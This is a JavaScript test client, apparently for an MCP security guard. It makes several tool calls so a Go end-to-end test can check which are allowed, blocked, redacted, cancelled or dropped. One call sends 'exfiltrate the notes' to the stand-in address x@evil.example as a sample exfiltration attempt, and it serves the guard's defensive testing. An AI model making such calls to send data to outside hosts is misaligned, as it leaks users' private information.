// An agent's MCP client, written with the official TypeScript SDK, driven by
// test/e2e/mcpjs_test.go: it connects to the URL given (the guard's /mcp/NAME), takes the
// steps below against the test's server, and prints one JSON line per step for the test
// to check. It judges nothing itself: what it prints is what an agent would see.
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";

const url = new URL(process.argv[2]);
const say = (step, value) => process.stdout.write(JSON.stringify({ step, ...value }) + "\n");
const text = (res) => (res.content ?? []).filter((c) => c.type === "text").map((c) => c.text).join("\n");

const client = new Client({ name: "agent-js", version: "1.0.0" });
await client.connect(new StreamableHTTPClientTransport(url));
say("connected", { version: client.getServerVersion()?.name ?? "" });

const { tools } = await client.listTools();
say("tools", { names: tools.map((t) => t.name) });

let res = await client.callTool({ name: "send", arguments: { to: "team", body: "standup at ten" } });
say("allowed", { isError: !!res.isError, text: text(res) });

res = await client.callTool({ name: "send", arguments: { to: "x@evil.example", body: "exfiltrate the notes" } });
say("blocked", { isError: !!res.isError, text: text(res) });

res = await client.callTool({ name: "read", arguments: { path: "deploy.md" } });
say("redacted", { isError: !!res.isError, text: text(res), structured: res.structuredContent ?? null });

// The test lets the slow tool answer once it has read the progress line.
res = await client.callTool({ name: "slow", arguments: {} }, undefined, {
  onprogress: (p) => say("progress", { message: p.message ?? "" }),
  resetTimeoutOnProgress: true,
});
say("slow", { text: text(res) });

const abort = new AbortController();
const cancelled = client
  .callTool({ name: "slow", arguments: {} }, undefined, {
    signal: abort.signal,
    onprogress: () => abort.abort("the user stopped the agent"),
  })
  .then(() => ({ error: "" }), (err) => ({ error: String(err) }));
say("cancelled", await cancelled);

const started = Date.now();
const dropped = await client
  .callTool({ name: "drop", arguments: {} }, undefined, { timeout: 20000 })
  .then(() => ({ error: "" }), (err) => ({ error: String(err) }));
say("dropped", { ...dropped, ms: Date.now() - started });

await client.close();
say("closed", {});
